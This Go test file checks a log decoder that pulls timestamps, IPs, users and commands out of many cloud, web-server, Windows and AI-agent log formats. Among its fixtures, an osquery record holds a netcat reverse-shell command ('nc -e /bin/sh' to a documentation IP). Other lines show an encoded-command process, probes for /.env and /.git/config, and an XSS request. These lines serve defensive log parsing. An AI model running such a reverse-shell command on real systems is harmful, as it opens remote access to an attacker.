package decode

import "testing"

// TestJSONStamps holds the names and forms under which JSON records have their time, and who they are about.
func TestJSONStamps(t *testing.T) {
	readings(t, []reading{
		{"Application Gateway", `{"timeStamp":"2024-02-12T09:10:11+00:00","resourceId":"/S/x","operationName":"ApplicationGatewayAccess","category":"ApplicationGatewayAccessLog","properties":{"instanceId":"a","clientIP":"192.0.2.7","clientPort":4711,"httpMethod":"GET","requestUri":"/.env","requestQuery":"a=b","userAgent":"curl/8","httpStatus":404,"host":"shop.example"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=404; cs-method=GET; cs-user-agent=curl/8; source=azure/webserver/access"},
		{"Front Door", `{"time":"2024-02-12T09:10:11.1234567Z","category":"FrontDoorAccessLog","properties":{"clientIp":"192.0.2.7","clientPort":"4711","httpMethod":"GET","requestUri":"https://shop.example:443/.env","userAgent":"curl/8","httpStatusCode":"403"}}`,
			"time=2024-02-12T09:10:11.1234567Z; src_ip=192.0.2.7; sc-status=403; cs-host=shop.example:443"},
		{"activity log of the command line", `[{"caller":"eve@corp.example","claims":{"ipaddr":"192.0.2.7"},"eventTimestamp":"2024-02-12T09:10:11.123456+00:00","operationName":{"localizedValue":"Delete","value":"Microsoft.Compute/virtualMachines/delete"},"status":{"value":"Started"}}]`,
			"time=2024-02-12T09:10:11.123456Z; user=eve@corp.example; src_ip=192.0.2.7"},
		{"Cloudflare's firewall", `{"Action":"block","ClientIP":"192.0.2.7","ClientRequestHost":"shop.example","ClientRequestMethod":"GET","ClientRequestPath":"/.git/config","ClientRequestUserAgent":"curl/8","Datetime":1707729011250000000,"EdgeResponseStatus":403,"Kind":"firewall","RuleID":"7"}`,
			"time=2024-02-12T09:10:11.25Z; src_ip=192.0.2.7; sc-status=403; path=/.git/config; outcome=failure"},
		{"Cloudflare's requests", `{"ClientIP":"192.0.2.7","ClientRequestHost":"shop.example","ClientRequestMethod":"GET","ClientRequestURI":"/a?b=1","EdgeResponseStatus":200,"EdgeStartTimestamp":"2024-02-12T09:10:11Z"}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=200"},
		{"Nextcloud", `{"reqId":"a","level":2,"time":"February 12, 2024 09:10:11","remoteAddr":"192.0.2.7","user":"--","app":"core","method":"POST","url":"/login","message":"Login failed: 'eve' (Remote IP: '192.0.2.7')","userAgent":"x","version":"29"}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; outcome=failure"},
		{"osquery", `{"name":"pack_p","hostIdentifier":"h7.corp.example","calendarTime":"Mon Feb 12 09:10:11 2024 UTC","unixTime":1707729011,"columns":{"cmdline":"nc -e /bin/sh 192.0.2.7 4","path":"/usr/bin/nc"},"action":"added"}`,
			"time=2024-02-12T09:10:11Z; host=h7.corp.example; CommandLine=nc -e /bin/sh 192.0.2.7 4; source=osquery/*/results"},
		{"Auth0", `{"log_id":"9","data":{"date":"2024-02-12T09:10:11.250Z","type":"fp","ip":"192.0.2.7","user_name":"eve@corp.example","user_agent":"x"}}`, "time=2024-02-12T09:10:11.25Z; user=eve@corp.example; src_ip=192.0.2.7; outcome=failure"},
		{"Route 53", `{"version":"1.1","account_id":"1","query_timestamp":"2024-02-12T09:10:11Z","query_name":"bad.example.","query_type":"A","rcode":"NOERROR","srcaddr":"192.0.2.7","srcport":"4711","transport":"UDP","srcids":{"instance":"i-1"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=bad.example; source=aws/dns/route53"},
		{"nanoseconds as text", `{"level":"warn","timeUnixNano":"1707729011250000000","msg":"login failed","user":"eve","ip":"192.0.2.7"}`, "time=2024-02-12T09:10:11.25Z; user=eve"},
		{"Serilog", `{"@t":"2024-02-12T09:10:11.25Z","@l":"Warning","@m":"login failed","level":"warn","user":"eve","ip":"192.0.2.7"}`, "time=2024-02-12T09:10:11.25Z"},
		{"Google's flows", `{"insertId":"a","jsonPayload":{"connection":{"src_ip":"192.0.2.7","src_port":4711,"dest_ip":"198.51.100.2","dest_port":22,"protocol":6},"start_time":"2024-02-12T09:10:11.1Z","end_time":"2024-02-12T09:10:11.2Z"},"logName":"projects/p/logs/compute.googleapis.com%2Fvpc_flows","timestamp":"2024-02-12T09:10:19.4Z"}`,
			"time=2024-02-12T09:10:11.1Z; src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; source=gcp/firewall/vpcflow"},
		{"Google's firewall", `{"jsonPayload":{"connection":{"src_ip":"192.0.2.7","src_port":4711,"dest_ip":"198.51.100.2","dest_port":22,"protocol":6},"disposition":"DENIED"},"logName":"projects/p/logs/compute.googleapis.com%2Ffirewall","timestamp":"2024-02-12T09:10:11Z"}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; outcome=failure"},
		{"Azure's firewall, words", `{"time":"2024-02-12T09:10:11Z","category":"AzureFirewallNetworkRule","operationName":"AzureFirewallNetworkRuleLog","properties":{"msg":"TCP request from 192.0.2.7:4711 to 198.51.100.2:22. Action: Deny. "}}`,
			"src_ip=192.0.2.7; src_port=4711; dst_ip=198.51.100.2; dst_port=22; outcome=failure"},
		{"Azure's firewall, columns", `{"time":"2024-02-12T09:10:11Z","category":"AZFWNetworkRule","properties":{"Protocol":"TCP","SourceIp":"192.0.2.7","SourcePort":4711,"DestinationIp":"198.51.100.2","DestinationPort":22,"Action":"Allow"}}`,
			"src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; outcome=success"},
		{"Azure's WAF", `{"timeStamp":"2024-02-12T09:10:11Z","category":"ApplicationGatewayFirewallLog","properties":{"clientIp":"192.0.2.7","requestUri":"/?a=<script>","ruleId":"941100","message":"XSS","action":"Blocked","hostname":"shop.example"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; event_type=waf_alert; outcome=failure; cs-host=shop.example"},
		{"Azure's flows", `{"records":[{"time":"2024-02-12T09:10:30Z","category":"NetworkSecurityGroupFlowEvent","properties":{"Version":2,"flows":[{"rule":"deny","flows":[{"mac":"0","flowTuples":["1707729011,192.0.2.7,198.51.100.2,4711,22,T,I,D,B,,,,","1707729012,192.0.2.8,198.51.100.2,4712,443,T,I,A,B,,,,"]}]}]}}]}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; outcome=failure\ntime=2024-02-12T09:10:12Z; src_ip=192.0.2.8; dst_port=443; outcome=success"},
		{"events that CloudTrail looked up", `{"Events":[{"EventId":"1","EventName":"ConsoleLogin","EventTime":"2024-02-12T10:10:11+01:00","Username":"eve","CloudTrailEvent":"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"eve\"},\"eventTime\":\"2024-02-12T09:10:11Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"awsRegion\":\"eu-west-1\",\"sourceIPAddress\":\"192.0.2.7\",\"responseElements\":{\"ConsoleLogin\":\"Failure\"}}"}]}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; source=aws/*/cloudtrail"},
		{"Azure's diagnostics of Windows", `{"time":"2024-02-12T09:10:12Z","category":"WindowsEventLogsTable","properties":{"EventId":4625,"Channel":"Security","Description":"An account failed to log on.","RawXml":"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID><TimeCreated SystemTime='2024-02-12T09:10:11Z'/><EventRecordID>7</EventRecordID><Channel>Security</Channel><Computer>vm7.corp.example</Computer></System><EventData><Data Name='TargetUserName'>eve</Data><Data Name='LogonType'>3</Data><Data Name='IpAddress'>192.0.2.7</Data></EventData></Event>"}}`,
			"time=2024-02-12T09:10:11Z; host=vm7.corp.example; user=eve; src_ip=192.0.2.7; outcome=failure"},
	})
}

// TestTextFormats holds logs of services that have a form of their own.
func TestTextFormats(t *testing.T) {
	readings(t, []reading{
		{"IIS's own", "192.0.2.7, -, 2/12/2024, 9:10:11, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 404, 0, GET, /.env, -,\n192.0.2.7, CORP\\eve, 2/13/2024, 9:10:12, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 200, 0, GET, /a, b=1,",
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=404; host=WEB7\ntime=2024-02-13T09:10:12Z; sc-status=200; cs-username=CORP\\eve; cs-uri=/a?b=1"},
		{"IIS's own, day first", "192.0.2.7, -, 12.02.2024, 09:10:11, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 404, 0, GET, /.env, -,", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7"},
		{"DHCP", "\t\tMicrosoft DHCP Service Activity Log\n\nEvent ID  Meaning\n10\tA new IP address was leased to a client.\n\nID,Date,Time,Description,IP Address,Host Name,MAC Address,User Name, TransactionID, QResult,Probationtime, CorrelationID,Dhcid.\n10,02/12/24,09:10:11,Assign,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,\n11,02/12/24,09:10:12,Renew,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,",
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; client_host=pc7.corp.example; mac=00005E005301\ntime=2024-02-12T09:10:12Z; action=renew"},
		{"DHCP, the head cut off", "10,02/12/24,09:10:11,Assign,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7"},
		{"DNS", "2/12/2024 9:10:11 AM 0E24 PACKET  00000000D1 UDP Rcv 192.0.2.7       8a1d   Q [0001   D   NOERROR] A      (3)bad(7)example(0)", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=bad.example; record_type=A"},
		{"DNS, an answer", "12.02.2024 09:10:11 0E24 PACKET  00000000D1 UDP Snd 192.0.2.7       8a1d R Q [8081   DR  NXDOMAIN] TXT    (1)x(3)bad(7)example(0)", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=x.bad.example; response_code=NXDOMAIN"},
		{"DNS, a forwarder", "2/12/2024 9:10:11 AM 0E24 PACKET  00000000D1 UDP Snd 203.0.113.53    8a1d   Q [0001   D   NOERROR] A      (3)bad(7)example(0)", "src_ip=; dst_ip=203.0.113.53"},
		{"xferlog", "Mon Feb 12 09:10:11 2024 1 192.0.2.7 1024 /srv/a secret.zip b _ o r eve ftp 0 * c", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; path=/srv/a secret.zip; event_type=download; outcome=success"},
		{"xferlog, in", "Mon Feb 12 09:10:11 2024 1 192.0.2.7 1024 /srv/a.zip b _ i r eve ftp 0 * i", "event_type=upload; outcome=failure"},
		{"xferlog, anonymous", "Mon Feb 12 09:10:11 2024 1 pc7.corp.example 1024 /pub/a b _ o a guest@ ftp 0 * c", "src_host=pc7.corp.example; user=guest@"},
		{"transcript", "**********************\nWindows PowerShell transcript start\nStart time: 20240212091011\nUsername: CORP\\eve\nRunAs User: CORP\\eve\nConfiguration Name: \nMachine: PC7 (Microsoft Windows NT 10.0.19045.0)\nHost Application: powershell.exe -nop\nProcess ID: 77\n**********************\nPS C:\\> whoami /all\ncorp\\eve\nPS C:\\> $a = 1\n>> $b\n",
			"time=2024-02-12T09:10:11Z; host=PC7; user=eve; CommandLine=powershell.exe -nop\ntime=2024-02-12T09:10:11Z; command=whoami /all; source=windows/ps_script\ntime=2024-02-12T09:10:11Z; event_type=command"},
		{"transcript, German, a time for each command", "**********************\nStart der Windows PowerShell-Aufzeichnung\nStartzeit: 20240212091011\nBenutzername: CORP\\eve\nAusführender Benutzer: CORP\\eve\nComputer: PC7 (Microsoft Windows NT 10.0.19045.0)\nHostanwendung: powershell.exe\n**********************\n**********************\nStartzeit des Befehls: 20240212091015\n**********************\nPS C:\\> whoami\n",
			"time=2024-02-12T09:10:11Z; host=PC7; user=eve\ntime=2024-02-12T09:10:15Z; command=whoami"},
		{"VPC flow, all columns, nobody names them", "5 111122223333 eni-1 192.0.2.7 198.51.100.2 4711 22 6 1 73 1707729011 1707729041 REJECT OK vpc-1 subnet-1 - 0 IPv4 192.0.2.7 198.51.100.2 eu-west-1 euw1-az3 - - - - ingress -", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_port=22; event_type=firewall_denied"},
		{"VPC flow, another order", "eni-1 192.0.2.7 4711 198.51.100.2 22 6 1707729011 1707729041 REJECT", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; src_port=4711; dst_ip=198.51.100.2; dst_port=22"},
		{"VPC flow, the store's stamp before", "2024-02-12T09:11:00.000Z 2 111122223333 eni-1 192.0.2.7 198.51.100.2 4711 22 6 1 73 1707729011 1707729041 ACCEPT OK", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; outcome="},
		{"a logon on one line", "Feb 12 09:10:11 dc7 winlogd: An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: eve Account Domain: CORP Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xC000006D Sub Status: 0xC000006A Network Information: Workstation Name: PC7 Source Network Address: 192.0.2.7 Source Port: 4711",
			"user=eve; src_ip=192.0.2.7; outcome=failure; LogonType=3; TargetDomainName=CORP; WorkstationName=PC7; source=windows/*/security"},
		{"a logon that OSSEC sent", "Feb 12 09:10:11 (dc7) 198.51.100.5->WinEvtLog 2024 Feb 12 09:10:11 WinEvtLog: Security: AUDIT_SUCCESS(4624): Microsoft-Windows-Security-Auditing: eve: CORP: dc7.corp.example: An account was successfully logged on. Subject:  Security ID:  S-1-0-0  Account Name:  -  Logon Type:   10  New Logon:  Security ID:  S-1-5-21-1  Account Name:  eve  Account Domain:  CORP  Network Information:  Workstation Name: PC7  Source Network Address: 192.0.2.7  Source Port: 4711",
			"user=eve; src_ip=192.0.2.7; outcome=success; LogonType=10; host=dc7.corp.example"},
		{"a process on one line", "Feb 12 09:10:11 pc7 nxlog: A new process has been created. Creator Subject: Security ID: S-1-5-21-1 Account Name: eve Account Domain: CORP Logon ID: 0x7 Process Information: New Process ID: 0x1 New Process Name: C:\\a b\\x.exe Token Elevation Type: %%1936 Process Command Line: x.exe -enc AAA",
			"NewProcessName=C:\\a b\\x.exe; CommandLine=x.exe -enc AAA; SubjectUserName=eve"},
	})
}

// TestAgentStamps holds agents' calls whose time or caller stands in an unusual place.
func TestAgentStamps(t *testing.T) {
	readings(t, []reading{
		{"Gemini's telemetry", "{\n  \"resource\": {\"attributes\": {\"service.name\": \"gemini-cli\"}},\n  \"hrTime\": [1707729011, 250000000],\n  \"body\": \"Tool call: x.\",\n  \"attributes\": {\"session.id\": \"s\", \"event.name\": \"gemini_cli.tool_call\", \"function_name\": \"run_shell_command\", \"function_args\": \"{\\\"command\\\":\\\"id\\\"}\", \"duration_ms\": 20, \"success\": true}\n}",
			"time=2024-02-12T09:10:11.25Z; command=id; took_ms=20"},
		{"a record's own attribute", `{"resource":{},"body":"Tool call: x.","attributes":{"session.id":"s","event.name":"gemini_cli.tool_call","event.timestamp":"2024-02-12T09:10:11.250Z","function_name":"run_shell_command","function_args":"{\"command\":\"id\"}","success":true}}`, "time=2024-02-12T09:10:11.25Z; command=id"},
		{"nanoseconds as text", `{"timeUnixNano":"1707729011250000000","body":{"stringValue":"claude_code.tool_result"},"attributes":[{"key":"event.name","value":{"stringValue":"tool_result"}},{"key":"tool_name","value":{"stringValue":"Bash"}},{"key":"tool_parameters","value":{"stringValue":"{\"full_command\":\"id\"}"}}]}`, "time=2024-02-12T09:10:11.25Z; command=id"},
		{"LiteLLM", `{"id":"c1","call_type":"acompletion","model":"m","startTime":1707729011.25,"endTime":1707729013.5,"metadata":{"user_api_key_user_id":"eve","requester_ip_address":"192.0.2.7"},"messages":[{"role":"user","content":"list"}],"response":{"id":"c1","created":1707729013,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"bash","arguments":"{\"command\":\"ls\"}"}}]}}]}}`,
			"time=2024-02-12T09:10:11.25Z; src_ip=192.0.2.7; principal=eve; command=ls"},
		{"Pi", `{"type":"session","version":3,"id":"s","timestamp":"2024-02-12T09:10:10Z","cwd":"/srv"}` + "\n" +
			`{"type":"message","id":"a1","parentId":null,"timestamp":"2024-02-12T09:10:11Z","message":{"role":"assistant","content":[{"type":"toolCall","id":"call_1","name":"bash","arguments":{"command":"id"}}],"model":"m","timestamp":1707729011000}}` + "\n" +
			`{"type":"message","id":"a2","parentId":"a1","timestamp":"2024-02-12T09:10:12Z","message":{"role":"toolResult","toolCallId":"call_1","toolName":"bash","content":[{"type":"text","text":"uid=0"}],"isError":false}}`,
			"time=2024-02-12T09:10:11Z; agent=pi; session=s; cwd=/srv; command=id; result=uid=0; duration_ms=1000; source=ai_agent/tool_call/pi"},
		{"Gemini's session", `{"sessionId":"11111111-2222-4333-8444-555555555555","projectHash":"a","startTime":"2024-02-12T09:10:00Z"}` + "\n" +
			`{"id":"m2","timestamp":"2024-02-12T09:10:05Z","type":"gemini","content":"","model":"g","toolCalls":[{"id":"t1","name":"run_shell_command","args":{"command":"id"},"status":"success","timestamp":"2024-02-12T09:10:11.25Z","result":[{"functionResponse":{"response":{"output":"uid=0"}}}]}]}`,
			"time=2024-02-12T09:10:11.25Z; command=id; result=uid=0"},
	})
}
